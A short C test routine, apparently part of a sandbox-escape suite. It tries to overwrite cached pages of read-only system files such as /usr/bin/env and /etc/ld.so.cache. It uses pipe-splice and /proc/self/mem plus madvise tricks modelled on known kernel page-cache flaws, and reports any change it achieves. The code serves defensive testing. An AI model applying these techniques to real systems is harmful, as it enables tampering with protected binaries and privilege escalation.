// Writes into the pages in which the kernel keeps the system's files, by ways that once worked.
#include "hostile.h"
#include <sys/sendfile.h>

static void attack(void) {
    const char *files[] = {"/proc/self/exe", "/usr/bin/env", "/etc/ld.so.cache"};
    for (int i = 0; i < 3; i++) {
        int file = open(files[i], O_RDONLY), ends[2];
        char before[64], after[64];
        if (file < 0 || pread(file, before, 64, 0) != 64 || pipe(ends) != 0) continue;
        // A pipe whose buffers may be appended to, and then a page of the file in one of them.
        for (int number = 0; number < 16; number++) {
            write(ends[1], before, 64);
            read(ends[0], after, 64);
        }
        loff_t at = 0;
        if (splice(file, &at, ends[1], NULL, 1, 0) < 0) sendfile(ends[1], file, &at, 1);
        write(ends[1], "hostile", 7);
        char *page = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE, file, 0);
        int memory = open("/proc/self/mem", O_RDWR);
        if (page != MAP_FAILED && memory >= 0) {
            pwrite(memory, "hostile", 7, (off_t)(uintptr_t)page);
            madvise(page, 4096, MADV_DONTNEED);
        }
        if (mmap(NULL, 4096, PROT_WRITE, MAP_SHARED, file, 0) != MAP_FAILED) broke_out("a shared mapping");
        if (page != MAP_FAILED && mprotect(page, 4096, PROT_READ | PROT_WRITE | PROT_EXEC) != 0) page = NULL;
        posix_fadvise(file, 0, 0, POSIX_FADV_DONTNEED);
        if (pread(file, after, 64, 0) != 64 || memcmp(before, after, 64) != 0) broke_out(files[i]);
        close(file);
        close(memory);
        close(ends[0]);
        close(ends[1]);
    }
}
